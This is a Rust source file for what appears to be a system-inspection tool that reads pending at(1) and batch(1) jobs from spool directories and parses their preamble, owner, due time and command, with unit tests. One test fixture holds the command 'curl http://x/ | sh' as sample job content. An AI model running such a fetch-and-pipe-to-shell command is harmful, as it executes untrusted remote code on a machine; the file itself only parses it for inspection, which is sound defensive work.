//! Jobs of at(1) and batch(1) that wait to run.
//!
//! Source: at(1) and its source: the file name is the queue's letter, the job's number (5
//! hexadecimal digits) and the time in minutes since 1970 (8 hexadecimal digits); a running job's
//! begins with `=`. The content is a shell script: a preamble made by at, then the command.

use std::path::Path;

use stanch_machine::{FileKind, limits};
use stanch_words::{Ask, GapKind, Row, Seen, Value, table_spec};

use crate::Host;
use crate::accounts::Accounts;
use crate::config_lines::numbered;
use crate::lines::number;
use crate::reach::Reach;

table_spec! {
    /// Jobs of at.
    pub static SPEC, col = "at_jobs": Files, "Jobs of at and batch that wait to run.";
    path Text Plain "File of the job.";
    uid BigInt Plain "User id in the preamble: whose rights it runs with.";
    username Text Plain "That user's name.";
    queue Text Plain "Queue: a for at, b for batch, = while it runs.";
    job Integer Plain "Number of the job, as atq(1) shows it.";
    time BigInt Plain "When it is due, in seconds since 1970.";
    command Text Plain "What follows the preamble.";
    directory Text Plain "Working directory.";
    owner BigInt Plain "Owner of the file: at refuses to run it unless this is uid.";
}

const SPOOLS: [&str; 3] = ["/var/spool/cron/atjobs", "/var/spool/at", "/var/spool/atjobs"];

/// Reads the spools that exist.
pub(super) fn read(host: &Host, _ask: &Ask, seen: &mut Seen) {
    let accounts = Accounts::of(host, SPEC.name, seen);
    let mut reach = Reach::new(host, SPEC.name);
    for spool in SPOOLS.map(Path::new) {
        for entry in reach.list(spool, seen) {
            if entry.kind == FileKind::Directory
                || entry.name == ".SEQ"
                || entry.name == ".lockfile"
            {
                continue;
            }
            let path = spool.join(&entry.name);
            let Some(bytes) = reach.read(&path, limits::CONFIG_FILE, seen) else { continue };
            let Some(mut row) = parse(&bytes, &path) else {
                reach.gap(GapKind::Damaged, "not a job of at", &path, seen);
                continue;
            };
            let uid = row.get(col::uid).as_integer().and_then(|uid| u32::try_from(uid).ok());
            let account = uid.and_then(|uid| accounts.by_uid(uid));
            let owner = host.machine().stat(&path).ok().map(|stat| stat.uid);
            row.put(col::username, account.map(|account| std::sync::Arc::clone(&account.name)))
                .put(col::owner, owner);
            seen.push(row);
        }
    }
    reach.finish(seen);
}

/// Parses a job. A file that is named like a job or begins like one is one.
pub fn parse(bytes: &[u8], path: &Path) -> Option<Row> {
    let mut row = SPEC.row();
    row.put(col::path, path);
    let named = name(path, &mut row);
    let mut uid = None;
    let mut rest = 0_usize;
    let mut offset = 0_usize;
    let mut in_directory_check = false;
    for (_, line) in numbered(bytes) {
        offset = offset.saturating_add(line.len()).saturating_add(1);
        if let Some(words) = line.strip_prefix(b"# atrun uid=") {
            uid = number::<u32>(words.split(|&b| b == b' ').next().unwrap_or_default());
        } else if let Some(directory) = line.strip_prefix(b"cd ") {
            // at writes `cd DIR || {`, a complaint, `exit 1` and `}`; blanks are escaped.
            let Some(directory) = directory.strip_suffix(b" || {") else { break };
            row.put(col::directory, directory);
            in_directory_check = true;
        } else if in_directory_check {
            if line == b"}" {
                rest = offset;
                break;
            }
        } else if !is_preamble(line) {
            break;
        }
        rest = offset;
    }
    if uid.is_none() && !named {
        return None;
    }
    let command = bytes.get(rest.min(bytes.len())..).unwrap_or_default();
    row.put(col::uid, uid).put(col::command, command.trim_ascii());
    Some(row)
}

fn is_preamble(line: &[u8]) -> bool {
    line.is_empty()
        || line.starts_with(b"#")
        || line.starts_with(b"umask ")
        || line.windows(9).any(|part| part == b"; export ")
}

/// Fills queue, number and time from the file's name.
fn name(path: &Path, row: &mut Row) -> bool {
    let name = path.file_name().map(|name| Value::from(Path::new(name)).to_string());
    let name = name.unwrap_or_default();
    let mut letters = name.chars();
    let Some(queue) = letters.next() else { return false };
    let digits = letters.as_str();
    if digits.len() != 13 || !digits.bytes().all(|b| b.is_ascii_hexdigit()) {
        return false;
    }
    let (job, minutes) = digits.split_at(5);
    let number = |text| i64::from_str_radix(text, 16).ok();
    row.put(col::queue, queue.to_string())
        .put(col::job, number(job))
        .put(col::time, number(minutes).map(|minutes| minutes.saturating_mul(60)));
    true
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use stanch_machine::Pretend;

    use super::*;

    const JOB: &str = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail ann 0\numask 22\n\
        LANG=C.UTF-8; export LANG\nPWD=/home/ann; export PWD\ncd /home/ann || {\n\t \
        echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\ncurl http://x/ | sh\n";

    #[test]
    fn a_job_gives_its_command_without_the_preamble() {
        let machine = Pretend::new()
            .file("/etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\n")
            .file("/var/spool/cron/atjobs/a0000301b2c3d4", JOB)
            .file("/var/spool/cron/atjobs/.SEQ", "00003\n")
            .file("/var/spool/cron/atjobs/odd", "\0\0")
            .file("/var/spool/cron/atjobs/b0000401b2c3d4", "# atrun uid=0 gid=0\nid\n");
        let mut seen = Seen::default();
        read(&Host::new(Arc::new(machine)), &Ask::all(), &mut seen);
        let line = |row: &Row| {
            [col::username, col::queue, col::job, col::time, col::command, col::directory]
                .map(|c| row.get(c).to_string())
                .join("|")
        };
        let found: Vec<String> = seen.rows.iter().map(line).collect();
        assert_eq!(
            found,
            ["ann|a|3|1709565360|curl http://x/ | sh|/home/ann", "|b|4|1709565360|id|"]
        );
        assert_eq!(seen.gaps.len(), 1);
        assert_eq!(seen.gaps[0].detail, "not a job of at");
    }

    #[test]
    fn a_job_cut_anywhere_is_still_a_job() {
        for cut in 0..JOB.len() {
            let row = parse(&JOB.as_bytes()[..cut], Path::new("/var/spool/at/a0000301b2c3d4"));
            assert!(row.is_some(), "{cut}");
        }
        assert_eq!(parse(b"", Path::new("/var/spool/at/x")), None);
    }
}
